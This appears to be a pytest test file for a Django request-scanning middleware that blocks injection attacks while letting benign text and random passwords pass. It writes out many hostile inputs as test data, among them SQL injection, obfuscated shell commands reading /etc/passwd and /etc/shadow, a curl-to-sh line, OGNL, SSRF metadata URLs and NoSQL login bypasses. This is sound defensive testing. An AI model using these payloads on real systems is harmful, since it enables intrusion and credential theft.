def test_a_command_between_single_backticks_and_the_werkzeug_walk_still_count():
    assert "shell_substitution" in names(scan_parts(query_string="q=" + quote("x`id`", safe="")))
    assert "shell_substitution" in names(scan_parts(query_string="q=" + quote("`uname -a`", safe="")))
    walk = "{{request.application.__globals__.__builtins__}}"
    assert "ssti_object_internals" in names(scan_parts(query_string="q=" + quote(walk, safe="")))


def test_a_scanner_name_counts_in_headers_only():
    assert "scanner_user_agent" in names(scan_parts(headers={"User-Agent": "Mozilla/5.00 (Nikto/2.1.6)"}))
    assert scan_parts(query_string="q=how+to+use+sqlmap").score < BLOCK


def test_a_decoded_line_break_is_a_header_only_outside_the_body():
    body = b"comment=Dear+team%2C%0D%0AThanks%3A+all"
    assert scan_parts(body=body, content_type=FORM).score == 0
    assert "crlf_header_injection" in names(scan_parts(query_string="next=%2F%0D%0ALocation:%20http://evil"))


def test_the_path_is_scanned_by_scan_request(rf):
    result = scan_request(rf.get("/@fs/etc/passwd"))
    assert result.score >= BLOCK and any(hit.endswith("@path") for hit in result.hits)
    assert scan_request(rf.get("/blog/2024/select-the-best-union-drop-leaf-table/")).score == 0


def test_every_hit_names_family_level_location_and_excerpt():
    result = scan_parts(query_string="id=1%20UNION%20SELECT%20password%20FROM%20users", path="/x.bak")
    assert [hit.label for hit in result.details] == result.hits
    union = next(hit for hit in result.details if hit.signature == "sqli_union_select")
    assert (union.family, union.paranoia, union.location) == ("sqli", 1, "query")
    assert "union select" in union.excerpt
    assert next(hit for hit in result.details if hit.location == "path").family == "protocol"


# ── what real benign text looks like ───────────────────────────────────────

BENIGN = [
    "O'Reilly", "select the best", "drop leaf table", "Please select one from the list and order by price",
    "It's 5 o'clock; time for tea", "Rock & roll; id est the music", "see ../README for details",
    "The file lives in /etc/nginx/ on most systems", "{{ user.name }}", "${price} per month",
    "https://example.com/page?ref=home", "a=1&b=2", "C:\\Users\\me\\Documents", "Tom & Jerry (1940)",
    "if (a == 'x' or b == 'y') { return; }", "email me at jane@example.com",
    "Order by 3pm for next-day delivery", "union of 3 sets", "I'd like 2 or 3 -- if possible",
    "<b>bold</b> and <i>italics</i>", "<foo val=bar />", "{{ user.name }} and {{ 4 }}", "we use {% raw %}",
    "top[3] (of 10)", "C:\\new\\folder", "the id", "a\\nb",
    "Every object has a __proto__ property", "d.__proto__ = b; // set the prototype",
    "The constructor property of Foo.prototype points back to Foo",
    "dog;dig hole", "use nslookup example.com to check", "a;nslookup",
    'the $IFS variable', 'echo "$IFS" | od -c', 'x="${IFS}"',
    '5\'10"', '""', "(',')", "'\"'", "\"''''\"'\"",
]


@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_is_not_blocked(text):
    assert scan_text(text).score < BLOCK
    assert scan_parts(body=f"comment={quote(text)}".encode(),
                      content_type=FORM).score < BLOCK


# ── scanners' characteristic probes, blocked from the first request ────────

def _probes():
    data = json.loads(FIXTURES.read_text(encoding="utf-8"))
    return [(tool, probe) for tool, probes in data.items() for probe in probes]


@pytest.mark.parametrize(("tool", "probe"), _probes(), ids=lambda p: p if isinstance(p, str) and len(p) < 12 else None)
def test_scanner_probes_are_blocked_from_the_first_request(rf, tool, probe):
    request = rf.generic(probe.get("method", "GET"), probe["path"] + ("?" + probe["query"] if probe.get("query") else ""),
                         data=probe.get("body", "").encode(), content_type=probe.get("content_type", "text/plain"),
                         HTTP_USER_AGENT=probe.get("user_agent", "Mozilla/5.0"))
    result = scan_request(request)
    assert result.score >= BLOCK, (tool, probe, result.hits)


# ── settings checks ────────────────────────────────────────────────────────

def test_a_pattern_the_engine_cannot_run_is_refused_by_manage_py_check_e030(settings):
    import io

    from django.core.management import call_command
    from django.core.management.base import SystemCheckError

    from smartlayer.checks.patterns import check_extra_pattern_engine, check_extra_pattern_safety

    pattern = r"(?<!\w)admin(?=\d)"
    settings.SMART_MIDDLEWARE = {"VALIDATOR_EXTRA_PATTERNS": [
        {"name": "fine", "pattern": r"\bzork\d{2}", "weight": 3},
        {"name": "lookaround", "pattern": pattern, "weight": 3},
    ]}
    [message] = check_extra_pattern_engine()
    assert message.id == "smartlayer.E030"
    assert "VALIDATOR_EXTRA_PATTERNS[1] (lookaround)" in message.msg and repr(pattern) in message.msg
    assert check_extra_pattern_safety() == []          # one id per problem
    with pytest.raises(SystemCheckError, match="smartlayer.E030"):
        call_command("check", stdout=io.StringIO(), stderr=io.StringIO())
    # the supported one runs, in the same pass; the refused one never does
    assert names(scan_text("zork42 admin7")) == {"fine"}


def test_user_patterns_are_matched_case_insensitively(sl):
    sl(VALIDATOR_EXTRA_PATTERNS=[{"name": "shout", "pattern": "EVIL[0-9]", "weight": 3}])
    assert "shout" in names(scan_text("an evil7 thing"))


@pytest.mark.parametrize("value", [0, 4, "2", 1.5, True, None])
def test_a_bad_paranoia_level_is_reported_e031(settings, value):
    from smartlayer.checks.patterns import check_paranoia

    settings.SMART_MIDDLEWARE = {"VALIDATOR_PARANOIA": value}
    assert [m.id for m in check_paranoia()] == ["smartlayer.E031"]
    settings.SMART_MIDDLEWARE = {"VALIDATOR_PARANOIA": 2}
    assert check_paranoia() == []


@pytest.mark.parametrize("path", [
    "/static/scripts/app.js", "/api/credentials", "/downloads/release-1.2.tar.gz", "/~jane/", "/blog/what-is-etc/",
    "/docs/select-from-where/", "/media/2024/report.pdf", "/sitemap.xml", "/robots.txt", "/api/v1/orders/42/items",
])
def test_ordinary_paths_score_zero(path):
    assert scan_parts(path=path).score == 0


def test_a_form_of_many_attacking_fields_is_rescanned_once_per_location(monkeypatch):
    """After a hit, thousands of fields are matched again per location, not one pass per field."""
    from smartlayer.detectors.payload import scan as payload

    calls = []
    original = payload._Scan.match

    def counting(self, text, location):
        calls.append(location)
        return original(self, text, location)

    monkeypatch.setattr(payload._Scan, "match", counting)
    body = "&".join(f"f{i}=%27+or+1%3D1--" for i in range(2000)).encode()
    result = scan_parts(body=body, content_type=FORM)
    assert result.score >= BLOCK and len(calls) <= 2
    calls.clear()
    few = "&".join(f"f{i}=%27+or+1%3D1--" for i in range(3)).encode()
    assert scan_parts(body=few, content_type=FORM).score >= BLOCK
    assert len(calls) == 3                         # a few fields: each alone, as before


@pytest.mark.parametrize(("query", "signature"), [
    ("q=whoami+", "shell_probe"), ("q=+whoami", "shell_probe"), ("q=1+UNION+SELECT+password+FROM+users", "sqli_union_select"),
    ("q=test+ORDER+BY+3%23", "sqli_order_probe"), ("q=a+%27+or+1%3D1--", "sqli_tautology"),
])
def test_a_value_whose_only_escape_is_plus_reads_as_the_decoders_read_it(query, signature):
    assert signature in names(scan_parts(query_string=query))


@pytest.mark.parametrize(("query", "content_type", "body"), [
    ("a[__proto__][polluted]=1", None, None),
    ("x=1&__proto__.polluted=1", None, None),
    (None, "application/x-www-form-urlencoded", "constructor[prototype][isAdmin]=true"),
    (None, "application/json", '{"__proto__": {"isAdmin": true}}'),
])
def test_prototype_pollution_is_blocked_where_a_parser_reads_names(rf, query, content_type, body):
    """A nested-parameter name or a JSON key that walks into an object's prototype (the names a qs-style parser
    or a deep merge follows), in the query, a form and a JSON body: blocked from the first request."""
    request = rf.get("/", QUERY_STRING=query) if query else rf.post("/", data=body, content_type=content_type)
    result = scan_request(request)
    assert result.score >= BLOCK and "js_prototype_pollution" in names(result)


def test_javascript_about_prototypes_is_not_prototype_pollution(rf):
    """Code and prose that name ``__proto__`` or a constructor's prototype as JavaScript does, posted as a JSON
    string or a text body: not the signature (the keys a parser follows are what it looks for)."""
    for text in ["var d = {}; d.__proto__ = b;", "console.log(Object.getPrototypeOf(a) === a.__proto__)",
                 "({ __proto__: [] } instanceof Array)", "Foo.prototype.constructor === Foo"]:
        for request in (rf.post("/", data=text, content_type="text/plain"),
                        rf.post("/", data=json.dumps({"code": text}), content_type="application/json")):
            assert "js_prototype_pollution" not in names(scan_request(request)), text


@pytest.mark.parametrize("command", [";c'a't /etc/passwd", "|c\\at /etc/shadow", ";{cat,/etc/passwd}", "& w\"h\"oami",
                                     "$(/???/??t /???/p??s??)"])
@pytest.mark.parametrize("where", ["query", "body"])
def test_a_command_spelt_to_hide_its_name_is_blocked_with_what_it_reads(where, command):
    """Quotes and backslashes inside the command's name, globs, brace expansion: the shell runs it as written;
    the spelling (a hint) and the file it reads, or the name it runs, add up to a block."""
    assert scan_at(where, command).score >= BLOCK, command


def test_a_windows_path_and_an_apostrophe_are_not_an_obfuscated_command():
    for text in ["C:\\new\\sam", "see c:\\temp\\readme", "it's; don't; won't", "x; O'Reilly"]:
        assert not {"shell_obfuscated_command", "shell_quoted_command"} & names(scan_text(text)), text
    assert scan_text("Guns; rock'n'roll and more").score < BLOCK       # single-quoted letters: a hint at most


def test_the_default_headers_scanned_include_the_content_type_and_the_forwarded_address(rf):
    """Struts's OGNL sent as a Content-Type, SQL in X-Forwarded-For and X-Real-IP (an application may write the
    address it is given into its own SQL): scanned by default; the usual values of those headers pass."""
    ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"
    assert scan_request(rf.post("/upload", data=b"x", content_type=ognl)).score >= BLOCK
    assert scan_request(rf.get("/", HTTP_X_FORWARDED_FOR="127.0.0.1' AND SLEEP(5)--")).score >= BLOCK
    assert scan_request(rf.get("/", HTTP_X_REAL_IP="1.2.3.4' or '1'='1")).score >= BLOCK
    for request in (rf.post("/", data={"f": "x"}), rf.post("/", data=b"{\"a\": 1}", content_type="application/json"),
                    rf.get("/", HTTP_X_FORWARDED_FOR="203.0.113.7, 2001:db8::1, 10.0.0.1", HTTP_X_REAL_IP="203.0.113.7")):
        assert scan_request(request).score == 0



def test_python_that_mentions_a_command_is_not_a_pickle_nor_blocked_in_a_body():
    """A Python snippet or prose in a body: not the pickle's opcodes, and a command call a hint only in a short
    value (a question about ``subprocess.run`` posted to a forum is not an attack)."""
    for text in ["The cos system (a note)", "use subprocess.run(['ls'], check=True) instead of os.system('ls')",
                 "yaml.safe_load(stream)  # never yaml.load with !!python tags from users"]:
        assert "yaml_pickle_object" not in names(scan_at("body", text)), text
        assert "python_command_call" not in names(scan_at("body", text)), text



@pytest.mark.parametrize("value", ["=SUM(A1:A3)", "=1+1", "-5", "+44 20 7946 0958", "@username", "=A1*2 (the total)"])
def test_a_spreadsheet_formula_or_a_signed_number_is_not_formula_injection(value):
    """A formula that computes, a phone number, a handle: not what runs a program or sends cells out."""
    for where in ("query", "body"):
        assert "formula_injection" not in names(scan_at(where, value)), (where, value)



def test_an_orm_lookup_on_a_secret_in_a_parameter_name_is_blocked(rf):
    """``?user__password__startswith=pbkdf2``: a view that passes ``request.GET`` (or a JSON body) to
    ``filter(**…)`` leaks the hash a character at a time. The admin's own filters and a search for the text pass."""
    for request in (rf.get("/users/", QUERY_STRING="user__password__startswith=pbkdf2"),
                    rf.post("/users/", data="token__regex=%5Eab", content_type=FORM),
                    rf.post("/api/users", data=b'{"owner__password__startswith": "pbkdf2"}', content_type="application/json")):
        result = scan_request(request)
        assert result.score >= BLOCK and "django_orm_secret_lookup" in names(result), request
    for request in (rf.get("/admin/auth/user/", QUERY_STRING="is_staff__exact=1&is_superuser__exact=0&o=-2"),
                    rf.get("/search", QUERY_STRING="q=password__startswith"), rf.get("/", QUERY_STRING="name__icontains=bob")):
        assert "django_orm_secret_lookup" not in names(scan_request(request))


# ── random characters: what a password manager generates ─────────────────

#: Passwords of letters, digits and symbols that a shell reading them would not run: a separator, then a letter
#: broken by a backslash or quotes that spells no command (each blocked before the word had to be a command's name).
RANDOM_PASSWORDS = ["A!vKSC?`\\A", "JI9]>YXTx&\\f", "gzc}46rJ&\\gX", "R0D~;f\\yaJ", "&Ru@5n;''Yi", "tx`AIq\\a",
                    "m4;AYLU\\fJ", "zB0d|gxY4`cT\\Ooo"]


@pytest.mark.parametrize("password", RANDOM_PASSWORDS)
def test_a_random_password_is_no_obfuscated_command(password):
    result = scan_login(password)
    assert "shell_obfuscated_command" not in names(result) and result.score < BLOCK, result.hits


def test_random_passwords_with_symbols_are_seldom_refused():
    """3,000 passwords of 8–20 letters, digits and punctuation, drawn with a fixed seed: the scan refused 4 of them
    (one in 750) while any backslashed letter after a separator was an obfuscated command; now at most one."""
    import random
    import string

    draw = random.Random(20261207)
    alphabet = string.ascii_letters + string.digits + string.punctuation
    refused = []
    for _ in range(3000):
        password = "".join(draw.choice(alphabet) for _ in range(draw.randint(8, 20)))
        if scan_login(password).score >= BLOCK:
            refused.append(password)
    assert len(refused) <= 1, refused


@pytest.mark.parametrize("command", ["`wh\\oami`", "$(i\\d)", ";u$@name -a", "&& c\\url http://x.example/a|s\\h",
                                     ";p\"i\"ng -c 1 x.example"])
def test_a_command_broken_by_quotes_or_backslashes_blocks_wherever_it_ends(command):
    assert "shell_obfuscated_command" in names(scan_at("query", command))


# ── JSON members read as a form's fields ───────────────────────────────────

@pytest.mark.parametrize("document", [{"id": "v3-1700000000000-1234567890123", "name": "LCP", "value": 2345.6},
                                      {"user": {"id": 5, "pwd": None}, "items": [{"id": 1}, {"id": 2}]},
                                      {"query": "query { user(id: 7) { id name } }", "variables": {"id": "7"}}])
def test_an_api_body_with_an_id_is_no_probe(document):
    """A key is a name, not a value: read alone, ``id`` (or ``pwd``) was the command a probe sends, and every API
    body naming an ``id`` scored as one (2, an LLM call each where one is configured)."""
    result = scan_json(document)
    assert result.score == 0, result.hits


@pytest.mark.parametrize("value", ["id", "whoami", "ana;ls -la", "admin'--", "1 AND 1=1", "<script>alert(1)</script>",
                                   "{{7*7}}", "O'Reilly", "drop leaf table", "pwd", "1;select pg_sleep(5)"])
def test_a_json_member_reads_as_the_same_form_field(value):
    as_json = scan_json({"cmd": value})
    as_form = scan_parts(body=f"cmd={quote(value, safe='')}".encode(), content_type=FORM)
    assert (names(as_json), as_json.score) == (names(as_form), as_form.score)


@pytest.mark.parametrize("query", ["id=1%A0UNION%A0SELECT%A0user()", "id=1%a0union%a0select%a0password%a0from%a0users",
                                   "id=1%25A0UNION%25A0SELECT%25A0user()"])
def test_a_lone_a0_byte_between_words_is_the_blank_mysql_reads(query):
    """sqlmap's blank tamper writes 0xA0 for a space: no UTF-8 character, so it decoded to U+FFFD and glued the
    words together (``union\ufffdselect``), and the union scored 0."""
    assert "sqli_union_select" in names(scan_parts(query_string=query))


@pytest.mark.parametrize("query", ["name=Jos%E9+Nu%F1ez+%A0", "t=caf%C3%A9%C2%A0noir", "t=%E2%80%A0+dagger"])
def test_latin1_text_and_a0_inside_utf8_stay_text(query):
    assert scan_parts(query_string=query).score == 0


@pytest.mark.parametrize("document", [{"username": {"$ne": None}, "password": {"$ne": None}},
                                      {"username": "admin", "password": {"$gt": ""}}, {"username": {"$regex": "^adm"}}])
def test_an_operator_as_a_json_members_name_still_blocks(document):
    """With members read as ``name=value``, ``{"$ne": null}`` is the line ``$ne=null``: an operator's name is the
    member's, as it was when a key was read alone (a login bypass by NoSQL operators)."""
    result = scan_json(document)
    assert "nosql_operator" in names(result) and result.score >= BLOCK


@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/", "http://localhost:6379/", "gopher://127.0.0.1:6379/_x",
                                 "http://[::1]/", "http://2130706433/", "http://127.0.0.1.nip.io/"])
def test_a_body_field_that_is_an_internal_url_blocks(url):
    """A webhook, an avatar to fetch, a feed: a field whose whole value is a URL to the server's own host."""
    assert scan_parts(body=f"webhook={quote(url, safe='')}".encode(), content_type=FORM).score >= BLOCK
    assert scan_json({"avatar_url": url}).score >= BLOCK


@pytest.mark.parametrize("token", ["eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
                                   "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"])
def test_a_signed_token_is_no_unsigned_one(token):
    assert scan_parts(query_string=f"token={token}", cookies={"jwt": token}).score == 0


def test_a_pickle_of_plain_data_is_no_pickled_command():
    import base64
    import pickle

    for protocol in range(6):
        token = base64.b64encode(pickle.dumps({"cart": [1, 2], "user": "ana"}, protocol=protocol)).decode()
        assert scan_parts(cookies={"sessionid": token}).score == 0, protocol
